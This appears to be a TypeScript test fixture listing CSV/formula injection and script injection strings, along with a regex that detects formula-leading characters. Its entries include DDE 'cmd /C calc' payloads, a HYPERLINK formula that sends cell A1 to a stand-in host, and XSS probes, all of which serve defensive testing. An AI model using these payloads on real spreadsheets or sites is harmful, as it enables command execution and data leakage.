/**
 * Texts that a spreadsheet or a page might run. The first are of the kinds that OWASP lists under CSV Injection: signs
 * that begin a formula, in full width too, behind signs that are passed over, or behind what ends a cell.
 */
export const hostile: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://x.test/?"&A1,"Click")',
  '=IMPORTXML("https://x.test","//a")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A1",
  '=DDE("cmd";"/C calc";"x")',
  '＝1+2',
  '＋1+2',
  '－1+2',
  '＠SUM(1+2)',
  "'1+3",
  '"=1+4"',
  '";=1+5',
  ';=1+6',
  ',=1+7',
  '3/4',
  '00123',
  '1E5',
  '<img src=x onerror="window.hit=1">',
  '</script><script>window.hit=1</script>',
  '<a href="javascript:window.hit=1">Deal</a>',
  '{{window.hit=1}}',
]

/** Texts that also begin with what the add-on passes over in names. */
export const hostileStarts: readonly string[] = ['\t=2+1', '\r=2+2', '\n=2+3', ' =2+4', '\u00a0=2+5']

/** What begins a formula in a file that another program opens. */
export const runs = /^[=+\-@＝＋－＠\t\r\n]/
